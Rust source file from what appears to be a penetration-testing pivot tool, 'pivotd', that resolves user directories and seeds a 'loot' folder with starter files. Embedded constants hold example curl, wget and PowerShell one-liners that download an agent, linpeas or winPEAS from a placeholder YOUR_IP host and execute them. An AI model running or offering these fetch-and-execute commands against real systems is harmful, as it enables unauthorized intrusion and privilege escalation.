//! Per-user directory discovery and loot directory seeding.

use std::path::{Path, PathBuf};

use tokio::fs;
use tracing::info;

use crate::{AppError, Result};

/// Resolved locations for the settings file and application data.
#[derive(Debug, Clone)]
pub struct AppDirs {
    /// Path of the persisted settings file.
    pub config_path: PathBuf,
    /// Root of per-user application data (loot, installed binaries).
    pub data_dir: PathBuf,
}

impl AppDirs {
    /// Discover the default locations under the user's home directory.
    ///
    /// Settings live at `~/.config/pivotd/config.json`, data under
    /// `~/.local/share/pivotd` (platform equivalents via `dirs`).
    ///
    /// # Errors
    ///
    /// Returns `AppError::Config` when the user's directories cannot
    /// be determined.
    pub fn discover() -> Result<Self> {
        let config_dir = dirs::config_dir()
            .ok_or_else(|| AppError::Config("cannot determine config directory".into()))?;
        let data_dir = dirs::data_local_dir()
            .ok_or_else(|| AppError::Config("cannot determine data directory".into()))?;

        Ok(Self {
            config_path: config_dir.join("pivotd").join("config.json"),
            data_dir: data_dir.join("pivotd"),
        })
    }

    /// Build directories rooted at an explicit base, used by tests and
    /// the `--config` override.
    #[must_use]
    pub fn rooted_at(base: &Path) -> Self {
        Self {
            config_path: base.join("config.json"),
            data_dir: base.join("data"),
        }
    }

    /// Default root for loot artifacts and the payload file server.
    #[must_use]
    pub fn loot_dir(&self) -> PathBuf {
        self.data_dir.join("loot")
    }

    /// Install directory for the pivot proxy/agent binaries.
    #[must_use]
    pub fn install_dir(&self) -> PathBuf {
        self.data_dir.join("ligolo")
    }
}

const LOOT_README: &str = "pivotd Loot Directory

This folder is used as the default root for the built-in file server
and the loot / file browser. You can drop tools, scripts, and payloads
here and use the API to generate per-file download one-liners.

Starter files:
- commands_linux.txt   : example curl/wget agent & loot download commands
- commands_windows.txt : example PowerShell Invoke-WebRequest examples

You are responsible for using these commands only in labs or environments
where you have explicit authorization.
";

const LINUX_COMMANDS: &str = "# Linux Download Examples (adjust IP/port/filenames as needed)

# Basic curl download
curl -o agent http://YOUR_IP:YOUR_PORT/agent

# Basic wget download
wget -O agent http://YOUR_IP:YOUR_PORT/agent

# Make downloaded file executable
chmod +x agent

# Example: download linpeas
curl -o linpeas.sh http://YOUR_IP:YOUR_PORT/linpeas.sh
chmod +x linpeas.sh
./linpeas.sh
";

const WINDOWS_COMMANDS: &str = "# Windows PowerShell Download Examples (run in an elevated prompt if needed)

# Download a file with Invoke-WebRequest
powershell -Command \"Invoke-WebRequest -Uri 'http://YOUR_IP:YOUR_PORT/agent.exe' -OutFile 'agent.exe'\"

# Download and execute a script
powershell -Command \"Invoke-WebRequest -Uri 'http://YOUR_IP:YOUR_PORT/script.ps1' -OutFile 'script.ps1'; .\\script.ps1\"

# Example: download winPEAS
powershell -Command \"Invoke-WebRequest -Uri 'http://YOUR_IP:YOUR_PORT/winpeas.exe' -OutFile 'winpeas.exe'\"
";

/// Ensure the loot directory exists and carries its starter files.
///
/// Idempotent: a `.initialized` marker short-circuits re-seeding, and
/// starter files are never overwritten if the operator edited them.
///
/// # Errors
///
/// Returns `AppError::Io` when the directory or starter files cannot
/// be created.
pub async fn init_loot_dir(dirs: &AppDirs) -> Result<PathBuf> {
    let loot = dirs.loot_dir();
    fs::create_dir_all(&loot).await?;

    let marker = loot.join(".initialized");
    if fs::try_exists(&marker).await? {
        return Ok(loot);
    }

    write_if_missing(&loot.join("README_LOOT.txt"), LOOT_README).await?;
    write_if_missing(&loot.join("commands_linux.txt"), LINUX_COMMANDS).await?;
    write_if_missing(&loot.join("commands_windows.txt"), WINDOWS_COMMANDS).await?;

    let stamp = chrono::Local::now().to_rfc3339();
    fs::write(&marker, stamp).await?;

    info!(path = %loot.display(), "loot directory initialized");
    Ok(loot)
}

async fn write_if_missing(path: &Path, content: &str) -> Result<()> {
    if fs::try_exists(path).await? {
        return Ok(());
    }
    fs::write(path, content).await?;
    Ok(())
}
